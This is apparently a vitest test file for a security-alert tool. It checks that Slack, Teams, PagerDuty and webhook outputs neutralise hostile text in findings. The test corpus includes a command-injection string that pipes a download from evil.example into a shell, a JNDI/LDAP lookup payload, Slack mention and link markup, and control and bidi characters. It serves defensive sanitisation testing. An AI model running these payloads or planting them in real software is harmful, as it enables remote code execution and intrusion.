import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Finding } from '../model/hunt-result.js';
import { ATTACKS } from '../output/testing/hostile-result.js';
import { messageOf, type Parcel } from './message.js';
import { openChannels } from './open-channels.js';
import { configOf, noticeOf, SURROUNDINGS } from './testing/alerts.js';
import { HttpReceiver } from './testing/receiver.js';

const CORPUS = [
  ...ATTACKS,
  '<!channel> <!here> <@U012AB3CD> <#C01> <https://evil.example|click>',
  '&lt;!channel&gt; &amp;lt;',
  '@channel @here @everyone <at>everyone</at>',
  '*bold* _it_ ~no~ `code` ```block``` > quote',
  '[click](https://evil.example) ![x](https://evil.example/x.png)',
  ':rotating_light: #heading\n- item',
  `{{range .Alerts}}{{.Labels}}{{end}} \${jndi:ldap://evil.example}`,
  '"} , {"severity":"low"',
  `a1; curl evil.example | sh #`,
  '\u0000\u0001',
  '\u{e0001}\u{e0041}',
  'x'.repeat(100_000),
  '\u{1f4a3}'.repeat(20_000),
  '\u202e'.repeat(30_000),
  '"\\'.repeat(20_000),
];

const notice = (attack: string) => {
  const entity = {
    kind: 'workload' as const,
    name: attack,
    ip: attack,
    container_uid: attack,
    image: attack,
  };
  const destinations = Array.from({ length: 500 }, () => ({
    ip: attack.slice(0, 300),
    port: 443,
    domain: attack.slice(0, 300),
    bytes_out: 1,
  }));
  const finding: Partial<Finding> = {
    title: attack,
    why: attack,
    incident: attack,
    technique: attack,
    strategy: attack,
    entity,
    destinations,
  };
  const hostile = noticeOf('opened', { finding: { ...finding, evidence_query: attack } });
  return { ...hostile, alert: { ...hostile.alert!, uid: attack } };
};

let receiver: HttpReceiver;
beforeAll(async () => {
  receiver = await HttpReceiver.open();
});
afterAll(() => receiver[Symbol.asyncDispose]());

const deliver = async (stated: Record<string, unknown>, parcel: Parcel): Promise<string> => {
  const environment = (name: string) => (name === 'URL' ? `${receiver.url}/x` : 'secret-of-ours');
  const { channel } = openChannels([configOf(stated)], { ...SURROUNDINGS, environment })[0]!;
  expect(await channel.send(parcel)).toMatchObject({ outcome: 'taken' });
  return receiver.arrived.at(-1)!.body;
};

/** Every text in a JSON value, keys too. */
function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, inner]) => [key, ...textsOf(inner)]);
}

const CHANNELS: { stated: () => Record<string, unknown>; most: number }[] = [
  { stated: () => ({ type: 'slack', url_env: 'URL' }), most: 12_000 },
  { stated: () => ({ type: 'teams', url_env: 'URL' }), most: 28_000 },
  { stated: () => ({ type: 'pagerduty', url: receiver.url, secret_env: 'S' }), most: 20_000 },
  { stated: () => ({ type: 'alertmanager', url: receiver.url }), most: 20_000 },
  { stated: () => ({ type: 'falcosidekick', url: receiver.url }), most: 4096 },
];

describe.each(CHANNELS)('$stated', ({ stated, most }) => {
  test('shows what the attacker wrote as what it is, within bounds', async () => {
    for (const attack of CORPUS) {
      const messages = [messageOf(notice(attack), `incident:${attack}`)];
      const one = await deliver(stated(), { id: 'a1:1', isRepeat: false, messages });
      expect(Buffer.byteLength(one)).toBeLessThanOrEqual(most);
      for (const text of textsOf(JSON.parse(one))) expect(text.replace(/\n/g, '')).not.toMatch(UNSAFE);
    }
  });
});

const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

const oneOf = (attack: string, count = 1): Parcel => ({
  id: 'a1:1',
  isRepeat: false,
  messages: Array.from({ length: count }, () => messageOf(notice(attack), 't')),
});

test('Slack is given no mention, no link and no markup, alone or in a digest', async () => {
  for (const attack of CORPUS) {
    for (const count of [1, 30]) {
      const body = JSON.parse(await deliver({ type: 'slack', url_env: 'URL' }, oneOf(attack, count)));
      const marked = JSON.stringify(body).match(/"mrkdwn","text":"[^"]*"/g) ?? [];
      expect(
        marked.filter((text) => !/^"mrkdwn","text":"`stowaway findings (list|show [\w.-]+)`"$/.test(text)),
      ).toEqual([]);
      expect(body).toMatchObject({ mrkdwn: false, parse: 'none', link_names: false });
      for (const text of textsOf(body)) {
        expect(text).not.toMatch(/[<>]/);
        expect(text.replace(/&(amp|lt|gt);/g, '')).not.toContain('&');
      }
    }
  }
});

test('no command holds what was not checked', () => {
  for (const attack of CORPUS.filter((each) => each !== '__proto__')) {
    const { next } = messageOf(notice(attack), 't');
    expect(next).toMatch(/^stowaway findings (list|show [A-Za-z0-9][\w.-]*)$/);
    if (!/^x+$/.test(attack)) expect(next).toBe('stowaway findings list');
  }
});

test('programs get the alert as it is, but printable and bounded', async () => {
  for (const attack of CORPUS) {
    for (const stated of [
      { type: 'webhook' },
      ...['alert', 'ocsf', 'ecs'].map((format) => ({ type: 'export', format })),
    ]) {
      const body = await deliver({ ...stated, url: receiver.url }, oneOf(attack));
      expect(body).not.toMatch(UNSAFE);
      expect(Buffer.byteLength(body)).toBeLessThan(1_000_000);
      const isWhole = attack.length < 200 && !attack.includes('\ud800');
      if (isWhole && stated.type === 'webhook') expect(JSON.parse(body).alert.finding.why).toBe(attack);
    }
  }
});

test('the key of PagerDuty is one, whatever the incident is called', async () => {
  for (const attack of CORPUS) {
    const messages = [messageOf(notice(attack), `incident:${attack}`)];
    const body = JSON.parse(
      await deliver(
        { type: 'pagerduty', url: receiver.url, secret_env: 'S' },
        { id: 'i', isRepeat: false, messages },
      ),
    );
    expect(body.dedup_key).toMatch(/^stowaway:[\x21-\x7e]{1,240}$/);
  }
});
